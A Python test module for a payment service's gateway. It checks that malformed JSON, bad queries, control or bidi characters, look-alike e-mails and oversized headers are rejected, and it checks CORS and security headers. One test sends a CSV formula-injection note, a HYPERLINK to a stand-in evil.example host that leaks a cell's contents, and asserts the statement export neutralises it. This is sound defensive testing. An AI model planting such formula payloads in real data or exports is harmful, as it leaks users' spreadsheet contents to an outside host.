"""Input hygiene and response headers, through the local gateway in front of every client
function's real functions-framework binding: malformed input is a 4xx in the error shape, never a
500; e-mail addresses have one spelling; statements cannot carry a formula; every answer carries
the security headers and CORS admits the web wallet's origin alone."""

from __future__ import annotations

import csv
import io
import json
import socket
import threading
import uuid
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from cloudevents.conversion import to_binary
from cloudevents.http import CloudEvent
from werkzeug.serving import make_server
from werkzeug.test import Client

from shared.adapters.outbox import cloud_event_of
from shared.adapters.tables import events
from shared.functions import FUNCTIONS, load_app
from shared.runner.gateway import Gateway, GatewayRequestHandler, InProcessBackends
from tests.fixtures.idempotency import fresh_key
from tests.fixtures.ledger import fund
from tests.fixtures.platform import throwaway_platform

PASSWORD = "plum-Harbour-7-lantern"
WEB_ORIGIN = "http://localhost:8080"
ERROR_KEYS = {"type", "code", "message", "param"}


@pytest.fixture(scope="module")
def runtime(tmp_path_factory, moto_endpoint_in_process):
    """The throwaway platform of tests/functions, built once for this module: every test here
    makes its own users, and none needs an empty database."""
    home = tmp_path_factory.mktemp("hygiene")
    with pytest.MonkeyPatch.context() as patch, throwaway_platform(home, patch, moto_endpoint_in_process) as built:
        yield built


@pytest.fixture(scope="module")
def gateway(runtime) -> Client:
    apps = {info.name: load_app(info.name) for info in FUNCTIONS if info.serves_clients}
    return Client(Gateway(InProcessBackends(apps), web_origin=WEB_ORIGIN))


def _sign_up(gateway: Client, email: str, full_name: str = "Ada Example") -> dict:
    answer = gateway.post(
        "/v1/users", json={"email": email, "password": PASSWORD, "full_name": full_name, "country": "US"}
    )
    assert answer.status_code == 201, answer.get_data(as_text=True)
    return answer.get_json()


def _auth(gateway: Client, email: str) -> dict[str, str]:
    answer = gateway.post("/v1/oauth/token", data={"grant_type": "password", "username": email, "password": PASSWORD})
    assert answer.status_code == 200, answer.get_data(as_text=True)
    return {"Authorization": f"Bearer {answer.get_json()['access_token']}"}


@pytest.fixture(scope="module")
def payer(gateway) -> dict[str, str]:
    email = f"payer-{uuid.uuid4().hex[:8]}@example.com"
    _sign_up(gateway, email)
    return _auth(gateway, email)


def _error_of(answer) -> dict:
    body = answer.get_json()
    assert body is not None and set(body) == {"error"}, answer.get_data(as_text=True)
    assert set(body["error"]) == ERROR_KEYS
    return body["error"]


DEEP = b"[" * 10_000 + b"]" * 10_000
LONG_INTEGER = b'{"to": "someone@example.com", "amount": ' + b"9" * 5_000 + b', "currency": "USD"}'

# (what is wrong, body, content type, extra headers, status, code)
MALFORMED_PAYMENTS = [
    ("nested 10,000 deep", DEEP, "application/json", {}, 400, "json_too_deep"),
    ("nested inside an object", b'{"to": ' + DEEP + b"}", "application/json", {}, 400, "json_too_deep"),
    ("a 5,000-digit integer", LONG_INTEGER, "application/json", {}, 400, "number_too_long"),
    ("a huge exponent", b'{"amount": 1e999999}', "application/json", {}, 400, "number_too_long"),
    ("NaN", b'{"amount": NaN}', "application/json", {}, 400, "invalid_json"),
    (
        "a duplicate key",
        b'{"to": "a@example.com", "amount": 1, "amount": 100000, "currency": "USD"}',
        "application/json",
        {},
        400,
        "duplicate_json_key",
    ),
    ("not UTF-8", b'{"note": "\xff\xfe"}', "application/json", {}, 400, "invalid_json"),
    ("an array", b"[]", "application/json", {}, 400, "invalid_json"),
    ("truncated", b'{"to": "a@', "application/json", {}, 400, "invalid_json"),
    ("plain text", b'{"to": "a@example.com"}', "text/plain", {}, 415, "unsupported_media_type"),
    ("a form", b"to=a%40example.com&amount=1", "application/x-www-form-urlencoded", {}, 415, "unsupported_media_type"),
    ("no Content-Type", b'{"to": "a@example.com"}', None, {}, 415, "unsupported_media_type"),
    (
        "no Idempotency-Key",
        b'{"to": "a@example.com", "amount": 1, "currency": "USD"}',
        "application/json",
        {"Idempotency-Key": None},
        400,
        "idempotency_key_required",
    ),
    (
        "an unprintable Idempotency-Key",
        b'{"to": "a@example.com", "amount": 1, "currency": "USD"}',
        "application/json",
        {"Idempotency-Key": "key\x01"},
        400,
        "idempotency_key_invalid",
    ),
    (
        "a string amount",
        b'{"to": "a@example.com", "amount": "1", "currency": "USD"}',
        "application/json",
        {},
        400,
        "parameter_invalid",
    ),
]


@pytest.mark.parametrize(
    ("body", "content_type", "extra", "status", "code"),
    [case[1:] for case in MALFORMED_PAYMENTS],
    ids=[case[0] for case in MALFORMED_PAYMENTS],
)
def test_a_corpus_of_malformed_payments_gets_4xx_answers_in_the_error_shape(
    gateway, payer, body, content_type, extra, status, code
):
    headers = {**payer, **fresh_key()}
    if content_type is not None:
        headers["Content-Type"] = content_type
    for name, value in extra.items():
        if value is None:
            headers.pop(name, None)
        else:
            headers[name] = value
    answer = gateway.post("/v1/payments", data=body, headers=headers)
    assert answer.status_code == status, answer.get_data(as_text=True)
    assert _error_of(answer)["code"] == code


@pytest.mark.parametrize(
    ("query", "param", "code"),
    [
        ("currency=CQD&from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z", "currency", "currency_not_supported"),
        ("currency=USD&from=0&to=2026-02-01T00:00:00Z", "from", "parameter_invalid"),
        ("currency=USD&from=2026-01-01&to=0.5", "to", "parameter_invalid"),
        ("currency=USD&currency=EUR&from=2026-01-01&to=2026-02-01", "currency", "parameter_repeated"),
    ],
)
def test_statement_queries_that_the_document_does_not_allow_are_400s(gateway, payer, query, param, code):
    answer = gateway.get(f"/v1/statements?{query}", headers=payer)
    assert answer.status_code == 400, answer.get_data(as_text=True)
    error = _error_of(answer)
    assert (error["code"], error["param"]) == (code, param)


@pytest.mark.parametrize(
    ("query", "param"),
    [("to=0.5", "to"), ("from=1700000000", "from"), ("currency=CQD", "currency"), ("limit=1&limit=2", "limit")],
)
def test_history_queries_that_the_document_does_not_allow_are_400s(gateway, payer, query, param):
    answer = gateway.get(f"/v1/transactions?{query}", headers=payer)
    assert answer.status_code == 400, answer.get_data(as_text=True)
    assert _error_of(answer)["param"] == param


@pytest.mark.parametrize(
    "name",
    ["Ada\u202eExample", "Ada\u2066Example", "Ada\x00Example", "Ada\x1bExample", "Ada\u200fExample", "Ada\nExample"],
)
def test_names_with_control_or_bidi_characters_are_refused_with_the_param(gateway, name):
    answer = gateway.post(
        "/v1/users",
        json={
            "email": f"n-{uuid.uuid4().hex[:8]}@example.com",
            "password": PASSWORD,
            "full_name": name,
            "country": "US",
        },
    )
    assert answer.status_code == 400, answer.get_data(as_text=True)
    assert _error_of(answer)["param"] == "full_name"


def test_look_alike_email_addresses_are_one_account(gateway):
    # GIVEN alice signed up in plain ASCII
    local = f"alice{uuid.uuid4().hex[:6]}"
    _sign_up(gateway, f"{local}@example.com")
    # WHEN someone signs up with a full-width, upper-case spelling of the same address
    fullwidth = "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in local.upper())
    answer = gateway.post(
        "/v1/users",
        json={"email": f"{fullwidth}@EXAMPLE.com", "password": PASSWORD, "full_name": "Mallory", "country": "US"},
    )
    # THEN the address is taken, and alice signs in under either spelling
    assert answer.status_code == 409 and _error_of(answer)["code"] == "email_taken"
    assert _auth(gateway, f"{fullwidth}@example.com")
    assert _auth(gateway, f"{local.upper()}@Example.com")


def test_oversized_headers_get_the_error_shape(gateway):
    answer = gateway.get("/v1/wallets", headers={"X-Padding": "a" * 20_000})
    assert answer.status_code == 431
    assert _error_of(answer)["code"] == "headers_too_large"


def test_a_full_refund_and_paying_a_request_need_no_content_type(gateway, payer):
    # A POST without a body is not a body in the wrong media type: it is answered on its merits.
    answer = gateway.post("/v1/payments/pay_nothing/refunds", headers={**payer, **fresh_key()})
    assert answer.status_code == 404 and _error_of(answer)["code"] != "unsupported_media_type"
    answer = gateway.post("/v1/payment-requests/prq_nothing/pay", headers={**payer, **fresh_key()})
    assert answer.status_code == 404


def test_every_answer_carries_the_security_headers(gateway, payer):
    for answer in (
        gateway.get("/v1/wallets", headers=payer),
        gateway.get("/v1/wallets"),
        gateway.get("/v1/nothing-here"),
        gateway.get("/healthz"),
        gateway.post("/v1/oauth/token", data={"grant_type": "password", "username": "x@example.com", "password": "y"}),
    ):
        assert answer.headers["Strict-Transport-Security"].startswith("max-age=")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "Werkzeug" not in answer.headers.get("Server", "")
    # Tokens and personal data are never cached.
    assert gateway.get("/v1/wallets", headers=payer).headers["Cache-Control"] == "no-store"
    token = gateway.post(
        "/v1/oauth/token", data={"grant_type": "password", "username": "x@example.com", "password": "y"}
    )
    assert token.headers["Cache-Control"] == "no-store"


def test_cors_admits_the_web_wallets_origin_alone(gateway, payer):
    mine = gateway.get("/v1/wallets", headers={**payer, "Origin": WEB_ORIGIN})
    assert mine.headers["Access-Control-Allow-Origin"] == WEB_ORIGIN
    theirs = gateway.get("/v1/wallets", headers={**payer, "Origin": "https://evil.example"})
    assert "Access-Control-Allow-Origin" not in theirs.headers
    # A preflight from the web wallet is answered; from any other origin it is refused.
    preflight = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}
    allowed = gateway.options("/v1/payments", headers={**preflight, "Origin": WEB_ORIGIN})
    assert allowed.status_code == 204
    assert allowed.headers["Access-Control-Allow-Origin"] == WEB_ORIGIN
    assert "Idempotency-Key" in allowed.headers["Access-Control-Allow-Headers"]
    refused = gateway.options("/v1/payments", headers={**preflight, "Origin": "https://evil.example"})
    assert refused.status_code == 403 and _error_of(refused)["code"] == "origin_not_allowed"
    assert "Access-Control-Allow-Origin" not in refused.headers


def _deliver(runtime, subject: str, event_type: str, function: str) -> None:
    with runtime.engine.connect() as conn:
        row = conn.execute(sa.select(events).where(events.c.subject == subject, events.c.type == event_type)).one()
    structured = cloud_event_of(row)
    data = structured.pop("data")
    headers, body = to_binary(CloudEvent(structured, data))
    answer = load_app(function).test_client().post("/", headers=headers, data=body)
    assert answer.status_code == 200, (function, answer.get_data(as_text=True))


def test_statements_neutralise_formulas_and_keep_amounts_as_numbers(gateway, runtime):
    # GIVEN a funded payer who pays the payee one cent with a formula for a note
    payer_email, payee_email = (f"{n}-{uuid.uuid4().hex[:8]}@example.com" for n in ("payer", "payee"))
    payer_id = _sign_up(gateway, payer_email)["id"]
    _sign_up(gateway, payee_email, full_name="Bea Example")
    now = datetime.now(UTC)
    with runtime.engine.begin() as conn:
        fund(conn, runtime.ledger, payer_id, 1_000, now)
    note = '=HYPERLINK("https://evil.example/?leak="&A1,"refund")'
    answer = gateway.post(
        "/v1/payments",
        json={"to": payee_email, "amount": 1, "currency": "USD", "note": note},
        headers={**_auth(gateway, payer_email), **fresh_key()},
    )
    assert answer.status_code == 202, answer.get_data(as_text=True)
    payment_id = answer.get_json()["id"]
    for function, event_type in (
        ("score-fraud", "payment.requested"),
        ("debit-wallet", "payment.approved"),
        ("settle", "payment.debited"),
    ):
        _deliver(runtime, payment_id, event_type, function)
    # WHEN both download their statements
    span = {
        "currency": "USD",
        "from": (now - timedelta(hours=1)).isoformat(),
        "to": (now + timedelta(hours=1)).isoformat(),
    }
    for email, sign in ((payee_email, 1), (payer_email, -1)):
        statement = gateway.get("/v1/statements", query_string=span, headers=_auth(gateway, email))
        assert statement.status_code == 200, statement.get_data(as_text=True)
        rows = list(csv.DictReader(io.StringIO(statement.get_data(as_text=True))))
        [paid] = [row for row in rows if row["id"] == payment_id]
        # THEN the note is text that no spreadsheet runs, and no text cell starts a formula
        assert paid["description"] == "'" + note
        for row in rows:
            for column, cell in row.items():
                if column not in ("amount_minor", "amount", "balance_minor", "balance"):
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        # AND the amounts are plain numbers, negative for the payer
        assert (int(paid["amount_minor"]), paid["amount"]) == (sign, "0.01" if sign > 0 else "-0.01")


def test_the_gateways_http_server_answers_what_it_refuses_in_the_error_shape_without_a_version():
    # GIVEN the local gateway's HTTP server (no function behind it is needed for this)
    server = make_server("127.0.0.1", 0, Gateway(InProcessBackends({})), request_handler=GatewayRequestHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        # WHEN a request comes with a header line longer than the server reads
        with socket.create_connection(("127.0.0.1", server.server_port), timeout=10) as connection:
            connection.sendall(b"GET /v1/wallets HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * 70_000 + b"\r\n\r\n")
            raw = b""
            while chunk := connection.recv(65536):
                raw += chunk
        # THEN the answer is a 431 in the error shape, and the server names no version
        head, _, body = raw.partition(b"\r\n\r\n")
        assert head.split(b" ", 2)[1] == b"431", head
        assert b"\r\nServer: paystream\r\n" in head and b"Werkzeug" not in head
        assert json.loads(body)["error"]["code"] == "headers_too_large"
    finally:
        server.shutdown()
